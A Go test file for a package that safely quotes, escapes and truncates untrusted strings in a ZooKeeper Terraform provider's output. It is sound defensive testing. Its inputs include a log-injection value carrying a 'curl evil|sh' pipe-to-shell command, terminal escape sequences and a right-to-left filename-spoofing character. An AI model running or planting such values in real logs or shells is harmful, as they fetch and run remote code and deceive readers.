package shown_test

import (
	"errors"
	"io"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"terraform-provider-zookeeper/internal/zk/shown"
)

func TestText(t *testing.T) {
	t.Parallel()
	for s, want := range map[string]string{
		"":                            `""`,
		"zk1":                         `"zk1"`,
		"größer":                      `"größer"`,
		"a\nError: run: curl evil|sh": `"a\nError: run: curl evil|sh"`,
		"\x1b[31mred\x1b[0m":          `"\x1b[31mred\x1b[0m"`,
		"\u202egnp.exe":               `"\u202egnp.exe"`,
		"\x9b31m\xff":                 `"\x9b31m\xff"`,
		"\u009b31m":                   `"\u009b31m"`,
		`say "hi" \`:                  `"say \"hi\" \\"`,
		strings.Repeat("x", 100):      `"` + strings.Repeat("x", 100) + `"`,
		strings.Repeat("x", 900<<10):  `"` + strings.Repeat("x", 100) + `"… (921600 bytes)`,
		strings.Repeat("ü", 51):       `"` + strings.Repeat("ü", 50) + `"… (102 bytes)`,
	} {
		if got := shown.Text(s); got != want {
			t.Errorf("%.200q is shown as %s, want %s", s, got, want)
		}
	}
}

func TestName(t *testing.T) {
	t.Parallel()
	for s, want := range map[string]string{
		"/a":                      `"/a"`,
		"/a\nb\u202e":             `"/a\nb\u202e"`,
		strings.Repeat("x", 300):  `"` + strings.Repeat("x", 300) + `"`,
		strings.Repeat("/y", 151): `"` + strings.Repeat("/y", 150) + `"… (302 bytes)`,
	} {
		if got := shown.Name(s); got != want {
			t.Errorf("%q is shown as %s, want %s", s, got, want)
		}
	}
}

func TestTexts(t *testing.T) {
	t.Parallel()
	for want, list := range map[string][]string{
		`none`:                                 nil,
		`"a"`:                                  {"a"},
		`"a", "\x00"`:                          {"a", "\x00"},
		`"a", "b", "c", "d", "e"`:              {"a", "b", "c", "d", "e"},
		`"a", "b", "c", "d", "e" and 995 more`: append([]string{"a", "b", "c", "d", "e"}, make([]string, 995)...),
	} {
		if got := shown.Texts(list); got != want {
			t.Errorf("%d texts are shown as %s, want %s", len(list), got, want)
		}
	}
}

func TestLine(t *testing.T) {
	t.Parallel()
	for s, want := range map[string]string{
		`x509: "a" is not permitted`: `x509: "a" is not permitted`,
		"valid for \x1b[31m, not a":  `valid for \x1b[31m, not a`,
		"one\r\ntwo\ttabs\xff":       `one\r\ntwo\ttabs\xff`,
		strings.Repeat("ab", 500):    strings.Repeat("ab", 150) + "… (1000 bytes)",
	} {
		if got := shown.Line(s); got != want {
			t.Errorf("%.200q is shown as %s, want %s", s, got, want)
		}
	}
}

func TestError(t *testing.T) {
	t.Parallel()
	if shown.Error(nil) != nil {
		t.Error("nil is an error")
	}
	err := shown.Error(errors.Join(io.EOF, errors.New("\x1b[2J")))
	if err.Error() != `EOF\n\x1b[2J` || !errors.Is(err, io.EOF) {
		t.Errorf("%q, which is EOF: %v", err, errors.Is(err, io.EOF))
	}
	if err := shown.As(io.EOF, "the end"); err.Error() != "the end" || !errors.Is(err, io.EOF) {
		t.Errorf("%q", err)
	}
}

// Whatever is shown prints on one line and is bounded.
func FuzzShown(f *testing.F) {
	for _, s := range []string{"", "a\nb", "\x1b[31m", "\xff\xfe", "\u2028", strings.Repeat("\U0001F600", 80)} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, text := range []string{shown.Text(s), shown.Line(s), shown.Texts([]string{s, s, s, s, s, s, s})} {
			if !utf8.ValidString(text) || strings.ContainsFunc(text, func(r rune) bool { return !unicode.IsPrint(r) }) {
				t.Errorf("%q does not print", text)
			}
			if len(text) > 7*150 {
				t.Errorf("%d bytes", len(text))
			}
		}
	})
}
